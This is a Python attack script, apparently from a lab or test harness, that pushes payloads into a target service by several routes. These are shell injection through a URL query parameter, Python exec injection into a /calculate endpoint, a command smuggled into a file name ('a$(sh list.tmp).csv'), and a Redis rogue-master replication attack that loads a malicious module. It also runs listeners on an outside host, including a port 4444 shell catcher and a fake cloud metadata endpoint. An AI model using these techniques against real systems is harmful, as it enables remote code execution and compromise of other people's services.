"""Carries an attack into a service, by the way that the service has.

attack.py serve                   what the attacker has outside: listeners
attack.py WAY TEXT                WAY: size calculate stub:PORT sql redis ssh file rogue"""

import base64
import os
import socket
import subprocess
import sys
import threading
import time
import urllib.parse

import wire

OUTSIDE = "203.0.113.7"
PRIVATE = "10.20.0.5"
METADATA = "169.254.169.254"


def size(script):
    name = urllib.parse.quote(f"none; {script}; true", safe="")
    return wire.http("GET", f"/size?file={name}")


def calculate(code):
    # A formula is one expression: what is to be executed goes in as text.
    packed = base64.b64encode(code.encode()).decode()
    return wire.http("POST", "/calculate", body=f"exec(__import__('base64').b64decode('{packed}'), {{}})".encode())


def stub(port, text):
    with wire.connect(int(port)) as connection:
        connection.sendall(b"EXPLOIT " + text.encode() + b"\r\n")
        time.sleep(1)
    return b""


def sql(text):
    with wire.Postgresql() as connection:
        return repr([connection.query(part) for part in text.split(";;")]).encode()


def redis(text):
    with wire.Redis() as connection:
        return repr([connection.call(*line.split()) for line in text.split(";;")]).encode()


def ssh(text):
    import users_sshd
    done = users_sshd.ssh(text)
    return done.stdout + done.stderr


def file(script):
    """The name of a file that the job takes in is itself a command."""
    folder = "/var/spool/incoming"
    with open(f"{folder}/list.tmp", "w") as out:
        out.write(script + "\n")
    with open(f"{folder}/a$(sh list.tmp).csv", "w") as out:
        out.write("1\n")
    deadline = time.monotonic() + 30
    while os.path.exists(f"{folder}/a$(sh list.tmp).csv") and time.monotonic() < deadline:
        time.sleep(0.2)
    return b""


def rogue(text):
    """A server that redis is told to copy from hands out a module in place of data."""
    with open("/srv/payload/module.so", "rb") as module:
        payload = module.read()
    server = socket.create_server((OUTSIDE, 6380))

    def serve():
        connection, _ = server.accept()
        said = connection.makefile("rb")
        while line := said.readline():
            word = line.strip().upper()
            if word in (b"PING",):
                connection.sendall(b"+PONG\r\n")
            elif word == b"REPLCONF":
                connection.sendall(b"+OK\r\n")
            elif word in (b"PSYNC", b"SYNC"):
                connection.sendall(b"+FULLRESYNC " + b"a" * 40 + b" 1\r\n")
                connection.sendall(b"$%d\r\n" % len(payload) + payload)
                time.sleep(2)
                return

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    said = [redis("CONFIG SET dbfilename exp.so"), redis(f"SLAVEOF {OUTSIDE} 6380")]
    thread.join(15)
    said += [redis("MODULE LOAD ./exp.so"), redis("SLAVEOF NO ONE"), redis("CONFIG SET dbfilename dump.rdb")]
    return b" ".join(said)


def serve():
    def listen(address, port, word):
        server = socket.create_server((address, port))
        while True:
            connection, _ = server.accept()
            threading.Thread(target=talk, args=(connection, word), daemon=True).start()

    def talk(connection, word):
        connection.settimeout(5)
        try:
            connection.sendall(word)
            while connection.recv(65536):
                pass
        except OSError:
            pass
        connection.close()

    for address, port, word in (
        (OUTSIDE, 4444, b"id\nexit\n"),
        (OUTSIDE, 443, b""),
        (OUTSIDE, 80, b""),
        (OUTSIDE, 9000, b""),
        (OUTSIDE, 3333, b""),
        (PRIVATE, 22, b"SSH-2.0-x\r\n"),
        (METADATA, 80, b"HTTP/1.0 200 OK\r\n\r\nrole\n"),
    ):
        threading.Thread(target=listen, args=(address, port, word), daemon=True).start()
    print("serving", flush=True)
    threading.Event().wait()


def main():
    way, *text = sys.argv[1:]
    way, _, port = way.partition(":")
    text = " ".join(text)
    if way == "serve":
        serve()
    done = stub(port, text) if way == "stub" else globals()[way](text)
    print(done[:2000].decode(errors="replace"))


main()
